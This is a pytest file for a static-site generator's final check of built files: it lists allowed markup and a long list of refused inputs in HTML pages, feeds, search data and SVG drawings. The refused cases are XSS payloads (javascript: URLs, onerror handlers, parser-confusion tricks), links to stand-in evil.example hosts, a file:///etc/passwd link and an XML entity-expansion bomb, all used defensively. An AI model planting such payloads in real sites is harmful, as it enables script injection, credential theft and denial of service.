"""The last look at a site's files: what may stand there, and what is named and refused."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from sitegen.errors import Problem
from sitegen.site.machines.policy import REDIRECT, policy
from sitegen.sweep import Allowed, Finding, Known, allowed_of, problems_of, sweep_file, sweep_files
from sitegen.sweep.screen import passes
from tests.browser.papers import demo_in
from tests.conftest import ROOT

SITE = "https://example.org/"
POLICY = "default-src 'none'"
TEMPLATE = """
{# a theme #}
<script src="{{ 'assets/javascripts/paper.js' | url }}" defer></script>
<script>go("{% if x %}no{% endif %}")</script>
<script>start()</script>
<form class="f" role="search" action="{{ 'search/' | url }}">
<input name="q" type="search" placeholder="{{ hint }}"></form>
<iframe src="https://player.example/embed" title="{{ title }}"></iframe>
<p style="color: red" {% if y %}hidden{% endif %}>x</p>
<button type="button" popovertarget="drawer">x</button>
"""
FILES = ("assets/javascripts/paper.js", "assets/stylesheets/paper.css")
ALLOWED = allowed_of([TEMPLATE], files=FILES, site=SITE, policies=[POLICY], trusted=["games/*"])


def page(body: str, head: str = "") -> bytes:
    whole = (
        f'<!doctype html>\n<html lang="en"><head><meta charset="utf-8">{head}<title>x</title></head>'
        f"<body><main>{body}</main></body></html>"
    )
    return whole.encode()


def found(path: str, data: bytes, allowed: Allowed = ALLOWED) -> list[str]:
    return [finding.what for finding in sweep_file(path, data, allowed, Known())]


GOOD = [
    "<p>1 &lt; 2 and > 3, &#60;script&#62; onclick=x javascript: data:</p>",
    "<p title=\"a &quot;b&quot; 'c' > d\">x</p>",
    '<a href="https://example.org/?a=1&amp;b=2#c">x</a> <a href="../b/">x</a>',
    '<a href="#c">x</a> <a href="">x</a>',
    '<a href="mailto:a@example.org">x</a> <a href="tel:+44">x</a> <a href="//example.org/">x</a>',
    '<img src="../a.webp" alt="" srcset="../a-320.webp 320w, ../a-640.webp 640w" loading="lazy">',
    '<picture><source srcset="a.avif" type="image/avif"><img src="a.webp" alt=""></picture>',
    '<svg viewBox="0 0 24 24" aria-hidden="true"><path d="M3 6h18v2H3z"/></svg>',
    "<script src='assets/javascripts/paper.js' defer></script>",
    "<script>\n  start()\n</script>",
    '<script type="application/ld+json">{"a":"\\u003cscript>"}</script>',
    '<form class="f" action="search/"><input name="q" type="search" placeholder="any words"></form>',
    '<iframe src="https://player.example/embed"></iframe>',
    '<p style="color: red">x</p>',
    '<button type="button" popovertarget="drawer">x</button>',
    "<!-- a comment --><p>x</p>",
    "<noscript><p>x</p></noscript>",
    '<link rel="stylesheet" href="assets/stylesheets/paper.css">',
]


@pytest.mark.parametrize("body", GOOD)
def test_what_is_inert_or_the_themes_stands(body: str) -> None:
    assert found("index.html", page(body)) == []


BAD = [
    "<script>alert(1)</script>",
    "<script>start();</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '<script src="https://evil.example/assets/javascripts/paper.js"></script>',
    '<script src="images/paper.js"></script>',
    '<script src="assets/javascripts/../../images/x.js"></script>',
    '<script src="../assets/javascripts/paper.js"></script>',
    '<script src="assets/javascripts/paper.js">alert(1)</script>',
    '<script src="assets/javascripts/paper.js" onload="alert(1)"></script>',
    '<script type="module" src="assets/javascripts/paper.js"></script>',
    '<script type="application/ld+json" src="x.js"></script>',
    '<script type="text/javascript">alert(1)</script>',
    "<scr\0ipt>alert(1)</scr\0ipt><script\0>alert(1)</script>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><script src="assets/javascripts/paper.js">alert(1)</script></svg>',
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<svg><animate attributeName="href" values="javascript:alert(1)"/></svg>',
    '<svg><use href="data:image/svg+xml,x#y"/></svg>',
    "<math><mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></mtext></math>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<template><script>alert(1)</script></template>",
    '<p onclick="alert(1)">x</p>',
    "<p/onclick=alert(1)>x</p>",
    "<p ONMOUSEOVER = alert(1)>x</p>",
    '<img src="x" onerror="alert(1)">',
    "<details open ontoggle=alert(1)>",
    '<p title="a"onclick="alert(1)">x</p>',
    '<p title="a>b" onclick=alert(1)>x</p>',
    '<p style="position:fixed">x</p>',
    "<style>p { color: red }</style>",
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<link rel="stylesheet" href="images/x.css">',
    '<link rel="STYLESHEET" href="assets/stylesheets/paper.css">',
    '<link rel="import" href="x.html">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="java&#10;script:alert(1)">x</a>',
    '<a href="&#106;avascript&colon;alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    "<a href=' javascript:alert(1)'>x</a>",
    '<a href="vbscript:x">x</a>',
    '<a href="data:text/html,x">x</a>',
    '<a href="blob:x">x</a>',
    '<a href="file:///etc/passwd">x</a>',
    '<a href="view-source:x">x</a>',
    '<a href="x" ping="https://evil.example/">x</a>',
    '<img src="https://evil.example/x.png">',
    '<img src="//evil.example/x.png">',
    '<img src="\\\\evil.example\\x.png">',
    '<img src="/\t/evil.example/x.png">',
    '<img src="data:image/svg+xml,x">',
    '<img srcset="a.webp 1x, https://evil.example/x.png 2x">',
    '<blockquote cite="javascript:x">x</blockquote>',
    '<iframe src="https://evil.example/"></iframe>',
    '<iframe srcdoc="&lt;script>alert(1)&lt;/script>"></iframe>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<object data="x.swf"></object>',
    "<embed src=x>",
    "<applet code=x></applet>",
    "<portal src=x></portal>",
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0; url=https://evil.example/">',
    '<meta http-equiv="refresh" content="0; url=javascript:alert(1)">',
    '<meta http-equiv="refresh" content="0; url=//evil.example">',
    '<meta http-equiv="refresh" content="5">',
    '<meta http-equiv="Content-Security-Policy" content="script-src *">',
    '<meta http-equiv="set-cookie" content="a=b">',
    '<meta charset="utf-7">',
    '<form action="https://evil.example/"><input name="password"></form>',
    '<form class="f" action="https://evil.example/">x</form>',
    '<form class="f" action="javascript:alert(1)">x</form>',
    '<input type="password" name="q">',
    '<input type="image" src="x" formaction="https://evil.example/">',
    '<button formaction="javascript:alert(1)">x</button>',
    '<button popovertarget="other">x</button>',
    "<textarea>x</textarea>",
    "<video src=x></video>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext><script>",
    "<x-y onfocus=alert(1) tabindex=0>",
    '<p is="x-y">x</p>',
    '<body onload="alert(1)">',
    "<!--><script>alert(1)</script>-->",
    "<? x ><img src=x onerror=alert(1)>",
    '<title><img src="</title><img src=x onerror=alert(1)>',
]


@pytest.mark.parametrize("body", BAD)
def test_what_the_theme_did_not_put_there_is_named(body: str) -> None:
    whole = page(body)
    assert found("index.html", whole) != []
    assert not passes(whole, 0, ALLOWED, Known())


@pytest.mark.parametrize(
    "body",
    [
        "<img src=x/onerror=alert(1)>",
        "<frameset><frame src=x></frameset>",
        "<![CDATA[<img src=x onerror=alert(1)>]]>",
        "<!-- <script>alert(1)</script> -->",
        "<p>1 < 2</p>",
        "<P CLASS=a>x</P>",
    ],
)
def test_what_only_looks_dangerous_is_settled_by_parsing_it(body: str) -> None:
    whole = page(body)
    assert not passes(whole, 0, ALLOWED, Known())
    assert found("index.html", whole) == []


def test_a_finding_says_file_and_what() -> None:
    data = page('<a href="java\x01script:alert(1)" onclick="steal()">x</a>')
    findings = sweep_file("a/b/index.html", data, ALLOWED, Known())
    assert Finding(
        "a/b/index.html", '<a> has the attribute onclick="steal()", which is none of the theme\'s'
    ) in (findings)
    (problem, *_) = problems_of([*findings, *findings], "site")
    assert isinstance(problem, Problem)
    assert problem.path == "site/a/b/index.html"
    assert "trusted" in problem.hint
    assert len(problems_of([*findings, *findings], "site")) == len(set(findings))


@pytest.mark.parametrize(
    ("path", "source"),
    [
        ("index.html", "assets/javascripts/paper.js"),
        ("a/b/index.html", "../../assets/javascripts/paper.js"),
        ("404.html", "/assets/javascripts/paper.js"),
    ],
)
def test_the_themes_files_are_known_from_every_folder(path: str, source: str) -> None:
    data = page(f'<script src="{source}"></script>')
    assert passes(data, path.count("/"), ALLOWED, Known())
    assert found(path, data) == []


def test_a_file_of_the_theme_is_known_only_at_its_own_depth() -> None:
    data = page('<script src="assets/javascripts/paper.js"></script>')
    known = Known()
    assert sweep_file("index.html", data, ALLOWED, known) == ()
    assert sweep_file("images/index.html", data, ALLOWED, known) != ()


def test_the_policy_of_the_site_and_an_old_address_may_stand() -> None:
    head = f'<meta http-equiv="Content-Security-Policy" content="{POLICY}">'
    assert found("index.html", page("", head)) == []
    assert found("index.html", page("", '<meta http-equiv="refresh" content="0; url=../../a/">')) == []


@pytest.mark.parametrize(
    "data",
    [
        b"<!doctype html><p>\xff</p>",
        "<!doctype html><p>\u00fc</p>".encode(),
        b'<!doctype html><meta charset="utf-7"><p>+ADw-script+AD4-</p>',
        "<!doctype html><p>x</p>".encode("utf-16"),
        b"<!doctype html><p>\x1b$B</p>",
    ],
)
def test_a_page_in_an_encoding_that_a_browser_has_to_guess_is_refused(data: bytes) -> None:
    assert found("index.html", data) != []


def test_a_file_for_a_search_engines_eyes_needs_no_doctype() -> None:
    assert found("search123.html", b"search-site-verification: search123.html") == []


RSS = (
    '<?xml version="1.0" encoding="UTF-8"?>\n<rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/">'
    "<channel><item><title>x</title><link>{link}</link><content:encoded>{html}</content:encoded>{more}</item></channel></rss>"
)


def rss(link: str = SITE, html: str = "", more: str = "") -> bytes:
    return RSS.format(link=link, html=html, more=more).encode()


def test_a_good_feed_passes() -> None:
    html = '<![CDATA[<p>x &lt;script&gt; <img src="https://example.org/a.webp" alt=""> <a href="https://a.example/">b</a></p>]]>'
    assert found("feed.xml", rss(html=html)) == []


@pytest.mark.parametrize(
    "data",
    [
        rss(html="<![CDATA[<script>alert(1)</script>]]>"),
        rss(html="&lt;img src=x onerror=alert(1)&gt;"),
        rss(html='<![CDATA[<img src="https://tracker.example/x.gif">]]>'),
        rss(html="<![CDATA[<style>p{}</style>]]>"),
        rss(html="<![CDATA[x]]]]><![CDATA[><script>alert(1)</script>]]>"),
        rss(link="javascript:alert(1)"),
        rss(more="<description>&lt;script&gt;alert(1)&lt;/script&gt;</description>"),
        rss(more='<script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script>'),
        rss(more='<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
        rss(more='<enclosure url="data:text/html,x"/>'),
        rss(html="a\x0bb"),
        rss(html="&nope;"),
        b'<?xml version="1.0"?><?xml-stylesheet href="x.xsl" type="text/xsl"?><rss/>',
        b'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY a "b">]><rss>&a;</rss>',
        b'<feed xmlns="http://www.w3.org/2005/Atom"><content type="xhtml"/></feed>',
        b'<feed xmlns="http://www.w3.org/2005/Atom"><content type="html">&lt;b onclick="x"></content></feed>',
        b'<feed xmlns="http://www.w3.org/2005/Atom"><link href="javascript:x"/></feed>',
        b"<rss",
        b"",
    ],
)
def test_a_feed_in_which_something_could_run_is_refused(data: bytes) -> None:
    assert found("feed.xml", data) != []


def test_json_feeds_and_the_search_are_looked_into() -> None:
    good = {
        "url": SITE,
        "content_html": '<p>x <img src="https://example.org/a.webp"></p>',
        "title": "<script>",
    }
    assert found("feed.json", json.dumps({"items": [good]}).encode()) == []
    bad = {"content_html": "<p onclick=x>"}
    assert found("feed.json", json.dumps({"items": [bad]}).encode()) != []
    assert found("feed.json", b'{"items": [{"url": "javascript:x"}]}') != []
    assert found("feed.json", b"{") != []
    assert found("feed.json", b"[" * 200_000) != []


def test_what_the_search_shows_leads_into_the_site() -> None:
    name = "search/index/cards-0a1b2c.json"
    good = [{"url": "articles/a/", "title": "<script>", "picture": "images/a.webp"}]
    assert found(name, json.dumps(good).encode()) == []
    for bad in ({"url": "javascript:x"}, {"url": "//evil.example/"}, {"picture": "https://evil.example/"}):
        assert found(name, json.dumps([bad]).encode()) != []
    assert found(name, b"[") != []
    assert found("search/index/words-0a1b2c.json", b'{"javascript:": [1]}') == []


DRAWING = (
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 9 9">'
    "{}</svg>"
)


@pytest.mark.parametrize(
    "inside",
    [
        '<path d="M0 0h9" fill="url(#a)"/>',
        "<style>path { fill: url(#a) }</style>",
        '<use xlink:href="#a"/>',
        '<image href="data:image/png;base64,AAAA"/>',
        '<metadata><a xmlns="http://example.org/notes">x</a></metadata>',
    ],
)
def test_a_drawing_may_draw(inside: str) -> None:
    assert found("images/a.svg", DRAWING.format(inside).encode()) == []


@pytest.mark.parametrize(
    "inside",
    [
        "<script>alert(1)</script>",
        '<path onload="alert(1)"/>',
        "<foreignObject><p>x</p></foreignObject>",
        '<p xmlns="http://www.w3.org/1999/xhtml" onclick="x">x</p>',
        '<a href="javascript:alert(1)"><text>x</text></a>',
        '<set attributeName="href" to="javascript:x"/>',
        '<animate attributeName="href" values="javascript:x"/>',
        '<image href="https://tracker.example/x.png"/>',
        '<use href="https://evil.example/x.svg#a"/>',
        '<image href="data:image/svg+xml;base64,AAAA"/>',
        '<style>@import "https://evil.example/x.css"</style>',
        "<style>path { fill: url(https://evil.example/) }</style>",
        "<style>path { fill: \\75rl(x) }</style>",
        '<path style="fill: url(//evil.example/)"/>',
        "<unclosed>",
    ],
)
def test_a_drawing_may_do_nothing_else(inside: str) -> None:
    assert found("images/a.svg", DRAWING.format(inside).encode()) != []


def test_a_drawing_that_swells_is_refused() -> None:
    entities = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
    bomb = f'<!DOCTYPE svg [<!ENTITY a0 "x">{entities}]>{DRAWING.format("&a9;")}'
    assert found("images/a.svg", bomb.encode()) != []


@pytest.mark.parametrize("name", ["x.js", "x.css", "x.mjs", "x.wasm", "assets/javascripts/other.js"])
def test_code_comes_from_the_theme_only(name: str) -> None:
    assert found(name, b"x") != []


def test_other_kinds_of_files_hold_no_markup() -> None:
    assert found("images/a.webp", b"RIFF<script>") == []
    assert found("robots.txt", b"User-agent: *") == []
    assert found("CNAME", b"example.org") == []
    for name in ("x.xhtml", "x.shtml", "x", "x.svgz.xsl"):
        assert found(name, b"<html><script>x</script></html>") != []


def test_what_mkdocs_yml_trusts_is_not_looked_at() -> None:
    assert found("games/a/index.html", page("<script>alert(1)</script>")) == []
    assert found("games/x.js", b"x") == []
    assert found("x/games/x.js", b"x") != []


def test_only_what_a_template_says_in_so_many_words_is_the_themes() -> None:
    assert ALLOWED.scripts() == ("start()",)
    assert found("index.html", page('<script>go("no")</script>')) != []
    loose = allowed_of(['<a onclick="{{ x }}">y</a><p style="{{ x }}">', '<script src="{{ x }}"></script>'])
    for body in ('<a onclick="evil()">', '<p style="x">', '<script src="x.js"></script>'):
        assert found("index.html", page(body), loose) != []


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return demo_in(tmp_path_factory.mktemp("sweep") / "paper")


def test_a_whole_paper_passes_and_its_pages_by_the_screen_alone(site: Path) -> None:
    files = {path.relative_to(site).as_posix(): path for path in site.rglob("*") if path.is_file()}
    theme = [path.read_text(encoding="utf-8") for path in (ROOT / "theme").rglob("*.html")]
    own = [path for path in files if path.startswith("assets/")]
    pages = {path: file.read_bytes() for path, file in files.items() if path.endswith(".html")}
    allowed, known = allowed_of(theme, files=own, site=SITE).under(policy(), REDIRECT), Known()
    assert list(sweep_files(site, files, allowed)) == []
    slow = [path for path, data in pages.items() if not passes(data, path.count("/"), allowed, known)]
    assert slow == []
